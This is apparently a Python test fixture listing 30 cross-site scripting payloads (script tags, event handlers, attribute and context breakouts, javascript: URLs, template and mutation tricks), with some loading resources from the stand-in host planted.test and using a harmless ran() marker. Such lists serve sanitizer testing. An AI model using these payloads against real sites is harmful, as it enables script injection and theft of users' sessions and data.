"""30 attacks by text; a field that holds less gets the beginning.

Each tries to call `ran()`, to put an element with the attribute `planted` into the page,
or to make the browser ask the host `planted.test`.
"""

PAYLOADS = [
    # Elements
    "<script planted>ran()</script>",
    "<img planted src=x onerror=ran()>",
    "<svg planted onload=ran()>",
    "<svg><script planted href=//planted.test/x></script>",
    "<iframe planted srcdoc='<script>parent.ran()</script>'>",
    "<object planted data=//planted.test/x></object>",
    "<base planted href=//planted.test/>",
    "<style planted>@import'//planted.test/x'</style>",
    "<meta planted http-equiv=refresh content=0;//planted.test>",
    "<form planted action=javascript:ran()><input autofocus>",
    # Ways out of what stands around the text
    '"><img planted src=x onerror=ran()>',
    "'><img planted src=x onerror=ran()>",
    '" planted autofocus tabindex=0 onfocus=ran() x="',
    "' planted autofocus tabindex=0 onfocus=ran() x='",
    "</title></textarea><img planted src=x onerror=ran()>",
    "--></style></script><script planted>ran()</script>",
    "\"');ran();//",
    "\\\"-ran()-'\\'${ran()}`",
    # Addresses
    "javascript:ran()",
    "java&Tab;script&colon;ran()//",
    "data:text/html,<script planted>parent.ran()</script>",
    "//planted.test/x",
    # The libraries of the page, and templates
    '<b planted x-data x-init="ran()">',
    "<b planted hx-get=/ hx-trigger='load[ran()]'>",
    "{{ran()}}{%if 1%}{{x|safe}}{%endif%}<b planted>",
    # Texts that become markup by being read once more
    "&lt;img planted src=x onerror=ran()&gt;",
    "\\u003cimg planted src=x onerror=ran()\\u003e",
    "＜img planted src=x onerror=ran()＞\u202e<b planted>",
    '<noscript><p title="</noscript><img planted src=x onerror=ran()>">',
    '=HYPERLINK("javascript:ran()")[x](javascript:ran())',
]
assert len(set(PAYLOADS)) == 30
